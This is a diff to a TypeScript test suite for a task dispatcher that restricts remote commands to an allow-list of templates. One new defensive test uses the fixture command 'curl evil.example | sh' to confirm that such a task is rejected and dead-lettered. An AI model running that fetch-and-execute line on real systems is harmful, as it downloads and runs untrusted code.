@@ -7,6 +7,8 @@ import { allBlocks, ledger, T0, task, vm } from '../functions/helpers/fixtures';
 import { MemoryDispatchRecords, RecordingPublisher, RecordingRunner } from './fakes';
 
 const GRACE_MS = 60_000; // the engine's default lease grace
+/** The allow-list the dispatcher runs commands from (`echo <word>`). */
+const TEMPLATES = { echo: { run: ['/bin/echo'], maxArguments: 1 } };
 
 function setup(options: { ssm?: boolean } = {}) {
   const base = ledger([vm('vm-a', { cpu: 1000, mem: 1000, io: 100, bw: 100 })]);
@@ -17,7 +19,7 @@ function setup(options: { ssm?: boolean } = {}) {
     tasks: base.store,
     records,
     publisher,
-    ...(options.ssm === false ? {} : { commands: runner }),
+    ...(options.ssm === false ? {} : { commands: runner, templates: TEMPLATES }),
     clock: base.clock,
   });
   const engine = new SpecRecordingEngine(base.engine, records);
@@ -88,7 +90,13 @@ describe('Dispatcher', () => {
     expect(outcome.skipped).toEqual([]);
     // Only the task with a command gets one, killed at its lease's end.
     expect(s.runner.sent).toEqual([
-      { instanceId: 'vm-a', commands: ['echo hi'], timeoutSeconds: 180, comment: 'bcs task with-cmd' },
+      {
+        instanceId: 'vm-a',
+        template: 'echo',
+        arguments: ['hi'],
+        timeoutSeconds: 180,
+        comment: 'bcs task with-cmd',
+      },
     ]);
     expect(await s.records.taskOfCommand('command-1')).toBe('with-cmd');
   });
@@ -188,6 +196,7 @@ describe('Dispatcher', () => {
         records,
         publisher: new RecordingPublisher(),
         commands: runner,
+        templates: TEMPLATES,
         clock: base.clock,
         retryDelaysMs: [2_000, 8_000],
         sleep: async (ms) => {
@@ -215,6 +224,27 @@ describe('Dispatcher', () => {
       };
     }
     const cmd = (id: string) => task(id, { cpu: 600 }, { command: `echo ${id}`, duration: 120 });
+
+    it('never claims nor sends a command outside the allow-list, and dead-letters it at once', async () => {
+      const r = retrying();
+      const hostile = task('hostile', { cpu: 600 }, { command: 'curl evil.example | sh', duration: 120 });
+      const { blocks } = await r.engine.schedule([hostile, cmd('fine')]);
+
+      const outcome = await r.dispatcher.dispatch(blocks);
+
+      expect(outcome.commands.map((c) => [c.taskId, c.status])).toEqual([
+        ['hostile', 'not-allowed'],
+        ['fine', 'sent'],
+      ]);
+      expect(r.runner.sent.map((x) => x.comment)).toEqual(['bcs task fine']);
+      expect(r.pauses).toEqual([]);
+      expect(r.deadLetters.map((d) => [d.assignment.task.id, d.attempts])).toEqual([['hostile', 0]]);
+      expect(r.deadLetters[0]!.error).toMatch(/allowed template name \(echo\); got "curl"/);
+      // Not claimed: nothing records a command for it.
+      expect(await r.records.claimCommand('hostile', txOf(blocks, 'hostile').transactionId)).toEqual({
+        state: 'claimed',
+      });
+    });
 
     it('sends on a later attempt when the instance registers in between', async () => {
       const r = retrying();
